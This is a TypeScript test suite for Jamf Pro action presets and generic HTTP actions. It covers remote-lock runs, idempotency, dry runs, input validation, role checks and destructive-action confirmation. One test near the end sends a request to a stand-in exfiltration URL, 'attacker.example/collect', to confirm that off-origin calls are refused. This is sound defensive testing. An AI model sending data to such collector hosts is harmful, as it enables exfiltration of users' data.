import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachDialect } from '../../../test/stores.js';
import { api } from '../../../test/server.js';
import {
  createJamfInstance,
  startConnectorWorld,
  syncNow,
  waitForRun,
  type ConnectorWorld,
} from '../connectors.fixture.js';

const LOCK = 'builtin.jamf-pro.remote-lock';

const computerPreset = {
  name: 'Jamf: computer model',
  description: 'Reads one computer and returns its model.',
  connectorId: 'jamf-pro',
  targetKind: 'asset',
  definition: {
    requests: [
      {
        name: 'computer',
        method: 'GET',
        url: '/api/v1/computers-inventory-detail/{{ target.key }}',
        headers: { 'X-Asked-By': '{{ $uppercase(input.who) }}' },
      },
    ],
    inputs: [{ name: 'who', label: 'Who asks', required: true }],
    output: '{"model": responses.computer.body.hardware.model, "serial": entity.serialNumber}',
  },
};

describeEachDialect('action presets and generic HTTP actions', (dialect) => {
  let w: ConnectorWorld;
  let jamfId: string;
  let assetId: string;
  let computerId: string;
  let serial: string;
  beforeAll(async () => {
    w = await startConnectorWorld(dialect, 12);
    jamfId = (await createJamfInstance(w, { name: 'Jamf presets' })).id;
    await waitForRun(w, (await syncNow(w, jamfId)).id);
    const mac = w.fleet.devices.find((d) => d.inJamf && d.platform === 'macOS');
    if (!mac) throw new Error('no Mac in the fleet');
    serial = mac.serialNumber;
    const found = await api(w.server.url, 'GET', `/api/v1/assets?q=${serial}`, {
      token: w.tenant.tokens.viewer,
    });
    assetId = found.body.items[0].id as string;
    computerId = [...w.jamf.state.computers.values()].find((c) => c.device.id === mac.id)?.id as string;
  });
  afterAll(async () => w?.close());

  const call = (method: string, path: string, body?: unknown, token = w.tenant.tokens.admin) =>
    api(w.server.url, method, path, { token, body });
  const runLock = (body: Record<string, unknown>, token = w.tenant.tokens.operator) =>
    call('POST', `/api/v1/action-presets/${LOCK}/runs`, { instanceId: jamfId, ...body }, token);
  const locksSent = () => w.jamf.state.commands.filter((c) => c.commandType === 'DEVICE_LOCK');

  it('finds built-in presets by every word of the query', async () => {
    const res = await call('GET', '/api/v1/action-presets?q=jamf%20lock', undefined, w.tenant.tokens.viewer);
    expect(res.status).toBe(200);
    expect(res.body.items.map((p: { id: string }) => p.id)).toEqual([LOCK]);
    expect(res.body.items[0]).toMatchObject({
      name: 'Jamf Pro: remote device lock',
      connectorTitle: 'Jamf Pro',
      builtIn: true,
      targetKind: 'asset',
      inputSchema: { required: ['pin'], properties: { pin: { pattern: '^(?:\\d{6})$' } } },
    });
    const none = await call(
      'GET',
      '/api/v1/action-presets?q=jamf%20teleport',
      undefined,
      w.tenant.tokens.viewer,
    );
    expect(none.body.items).toEqual([]);
  });

  it('locks a computer through the Jamf instance, once per idempotency key', async () => {
    const before = locksSent().length;
    const body = { entityId: assetId, input: { pin: '246810' }, idempotencyKey: 'preset-lock-0001' };
    const first = await runLock(body);
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ status: 'succeeded', replayed: false });
    expect(first.body.requests.map((r: { name: string; status: number }) => [r.name, r.status])).toEqual([
      ['computer', 200],
      ['command', 201],
    ]);
    const sent = locksSent();
    expect(sent).toHaveLength(before + 1);
    const command = sent[sent.length - 1];
    expect(command?.commandData).toMatchObject({ commandType: 'DEVICE_LOCK', pin: '246810' });
    expect(first.body.output).toEqual({ commandId: command?.uuid });

    const again = await runLock(body);
    expect(again.body).toMatchObject({
      replayed: true,
      executionId: first.body.executionId,
      output: first.body.output,
    });
    expect(locksSent()).toHaveLength(before + 1);

    const history = await call(
      'GET',
      `/api/v1/connector-actions?targetId=${assetId}`,
      undefined,
      w.tenant.tokens.viewer,
    );
    expect(history.body.items).toContainEqual(
      expect.objectContaining({ id: first.body.executionId, action: `preset:${LOCK}`, status: 'succeeded' }),
    );
  });

  it('dry-runs without sending anything, showing the rendered requests', async () => {
    const before = w.jamf.server.requests.length;
    const res = await runLock({ entityId: assetId, input: { pin: '135790' }, dryRun: true });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ status: 'dry_run', executionId: null });
    expect(res.body.requests[0]).toMatchObject({
      method: 'GET',
      url: `/api/v1/computers-inventory-detail/${computerId}`,
      status: null,
    });
    expect(res.body.requests[1].note).toMatch(/responses.computer/);
    expect(w.jamf.server.requests.length).toBe(before);
  });

  it('refuses bad runs with errors that name the field', async () => {
    const noPin = await runLock({ entityId: assetId, input: {} });
    expect(noPin.status).toBe(400);
    expect(noPin.body.error.details).toContainEqual(expect.objectContaining({ path: 'body.input.pin' }));
    const badPin = await runLock({ entityId: assetId, input: { pin: '12ab56' } });
    expect(badPin.body.error.details).toContainEqual({ path: 'body.input.pin', reason: 'must match \\d{6}' });
    const noEntity = await runLock({ input: { pin: '123456' } });
    expect(noEntity.body.error.details).toContainEqual(expect.objectContaining({ path: 'body.entityId' }));
    const viewer = await runLock({ entityId: assetId, input: { pin: '123456' } }, w.tenant.tokens.viewer);
    expect(viewer.status).toBe(403);

    const http = await call('POST', '/api/v1/connector-instances', {
      connectorId: 'http-api',
      name: 'Some API',
      config: { baseUrl: w.jamf.server.url, auth: { type: 'bearer' } },
      secrets: { token: 'plain-token-never-shown-77' },
    });
    expect(http.status).toBe(201);
    const wrongKind = await call('POST', `/api/v1/action-presets/${LOCK}/runs`, {
      instanceId: http.body.id,
      entityId: assetId,
      input: { pin: '123456' },
    });
    expect(wrongKind.status).toBe(400);
    expect(wrongKind.body.error.details).toContainEqual(expect.objectContaining({ path: 'body.instanceId' }));

    // Through the generic instance: the vendor refuses the token, and the token never comes back.
    const inline = await call('POST', '/api/v1/http-actions/runs', {
      instanceId: http.body.id,
      definition: { requests: [{ method: 'GET', url: '/api/v1/computers-inventory' }] },
    });
    expect(inline.status).toBe(502);
    expect(inline.body.error.message).toMatch(/401/);
    expect(JSON.stringify(inline.body)).not.toContain('plain-token-never-shown-77');
  });

  it('saves a preset only when every template compiles, naming each broken field', async () => {
    const broken = await call('POST', '/api/v1/action-presets', {
      ...computerPreset,
      definition: {
        ...computerPreset.definition,
        requests: [
          {
            ...computerPreset.definition.requests[0],
            url: '/x/{{ target. }}',
            headers: { Authorization: 'Bearer abc' },
          },
        ],
        output: '{"a": ',
      },
    });
    expect(broken.status).toBe(400);
    const paths = broken.body.error.details.map((d: { path: string }) => d.path);
    expect(paths).toContain('body.definition.requests[0].headers.Authorization');
    const compiled = await call('POST', '/api/v1/action-presets', {
      ...computerPreset,
      definition: {
        ...computerPreset.definition,
        requests: [{ ...computerPreset.definition.requests[0], url: '/x/{{ target. }}' }],
        output: '{"a": ',
      },
    });
    expect(compiled.body.error.details.map((d: { path: string }) => d.path)).toEqual([
      'body.definition.requests[0].url',
      'body.definition.output',
    ]);
    const unknownConnector = await call('POST', '/api/v1/action-presets', {
      ...computerPreset,
      connectorId: 'nope',
    });
    expect(unknownConnector.body.error.details).toContainEqual(
      expect.objectContaining({ path: 'body.connectorId' }),
    );
    const asAdmin = await call('POST', '/api/v1/action-presets', computerPreset);
    expect(asAdmin.status).toBe(201);
    await call('DELETE', `/api/v1/action-presets/${asAdmin.body.id}`);
    const denied = await call('POST', '/api/v1/action-presets', computerPreset, w.tenant.tokens.operator);
    expect(denied.status).toBe(403);
  });

  it('runs a saved preset with its inputs, entity and response mapping; built-ins stay read-only', async () => {
    const saved = await call('POST', '/api/v1/action-presets', computerPreset);
    expect(saved.status).toBe(201);
    const found = await call(
      'GET',
      '/api/v1/action-presets?q=computer%20model',
      undefined,
      w.tenant.tokens.viewer,
    );
    expect(found.body.items.map((p: { id: string }) => p.id)).toEqual([saved.body.id]);

    const ran = await call(
      'POST',
      `/api/v1/action-presets/${saved.body.id}/runs`,
      { instanceId: jamfId, entityId: assetId, input: { who: 'ops' } },
      w.tenant.tokens.operator,
    );
    expect(ran.status).toBe(200);
    const computer = [...w.jamf.state.computers.values()].find((c) => c.id === computerId);
    expect(ran.body.output).toEqual({ model: computer?.device.model, serial });

    const twice = await call('POST', '/api/v1/action-presets', computerPreset);
    expect(twice.status).toBe(409);
    expect(twice.body.error.details).toEqual([{ path: 'body.name', reason: 'already used' }]);
    const builtIn = await call('PUT', `/api/v1/action-presets/${LOCK}`, computerPreset);
    expect(builtIn.status).toBe(409);
    const renamed = await call('PUT', `/api/v1/action-presets/${saved.body.id}`, {
      ...computerPreset,
      name: 'Jamf: model',
    });
    expect(renamed.body).toMatchObject({ id: saved.body.id, name: 'Jamf: model' });
    expect((await call('DELETE', `/api/v1/action-presets/${saved.body.id}`)).status).toBe(204);
    expect((await call('GET', `/api/v1/action-presets/${saved.body.id}`)).status).toBe(404);
  });

  it('needs an admin and confirm for a destructive preset, and never leaves the instance’s origin', async () => {
    const destructive = await call('POST', '/api/v1/action-presets', {
      ...computerPreset,
      name: 'Jamf: erase (test)',
      destructive: true,
    });
    const path = `/api/v1/action-presets/${destructive.body.id}/runs`;
    const body = { instanceId: jamfId, entityId: assetId, input: { who: 'x' } };
    expect((await call('POST', path, body, w.tenant.tokens.operator)).status).toBe(403);
    const unconfirmed = await call('POST', path, body);
    expect(unconfirmed.body.error.details).toEqual([
      { path: 'body.confirm', reason: 'must be true for a destructive action' },
    ]);
    expect((await call('POST', path, { ...body, confirm: true })).status).toBe(200);

    const foreign = await call('POST', '/api/v1/http-actions/runs', {
      instanceId: jamfId,
      definition: { requests: [{ method: 'GET', url: 'https://attacker.example/collect' }] },
    });
    expect(foreign.status).toBe(400);
    expect(foreign.body.error.details).toContainEqual(
      expect.objectContaining({ path: 'body.definition.requests[0].url' }),
    );
    const operatorInline = await call(
      'POST',
      '/api/v1/http-actions/runs',
      { instanceId: jamfId, definition: { requests: [{ method: 'GET', url: '/api/v1/jamf-pro-version' }] } },
      w.tenant.tokens.operator,
    );
    expect(operatorInline.status).toBe(403);
  });
});
